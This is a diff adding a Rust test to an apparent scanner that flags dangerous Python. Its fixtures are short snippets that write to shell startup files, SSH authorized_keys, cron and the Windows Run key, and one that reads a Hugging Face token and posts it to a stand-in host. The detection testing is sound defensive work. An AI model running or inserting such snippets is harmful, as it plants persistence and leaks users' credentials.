@@ -82,3 +82,35 @@ fn a_source_in_another_encoding_is_read() {
         assert_ne!(report(bytes, name).format, "python", "{name}");
     }
 }
+
+#[test]
+fn what_is_written_to_be_run_later_is_told() {
+    let dangers = |code: &str| list(&report(format!("import os, requests\n{code}\n").as_bytes(), "tools.py"), DANGERS);
+    for (code, told) in [
+        ("with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(x)", "persists:open"),
+        ("p = os.path.join(home, '.ssh', 'authorized_keys')\nopen(p, mode='a').write(x)", "persists:open"),
+        ("open('/etc/cron.d/x', 'w').write(x)", "persists:open"),
+        ("import pathlib\n(pathlib.Path.home() / '.zshrc').write_text(x)", "persists:write_text"),
+        ("import pathlib\np = pathlib.Path.home() / '.profile'\nwith p.open('a') as f: f.write(x)", "persists:open"),
+        (
+            "import winreg\nk = winreg.OpenKey(h, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(k, 'a', 0, 1, x)",
+            "persists:winreg",
+        ),
+        (
+            "t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post('https://x.example.com', data=t)",
+            "gives_away:~/.cache/huggingface/token",
+        ),
+    ] {
+        assert_eq!(dangers(code), [told], "{code}");
+    }
+    for quiet in [
+        "open(os.path.expanduser('~/.bashrc')).read()",
+        "open('.bashrc.template', 'w').write(x)",
+        "open('run.profile', 'w').write(x)",
+        "print('add this to ~/.bashrc')\nopen('env.sh', 'w').write(x)",
+        "import winreg\nwinreg.OpenKey(h, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
+        "t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.get('https://huggingface.co/api/models', headers={'authorization': t})",
+    ] {
+        assert!(dangers(quiet).is_empty(), "{quiet}: {:?}", dangers(quiet));
+    }
+}
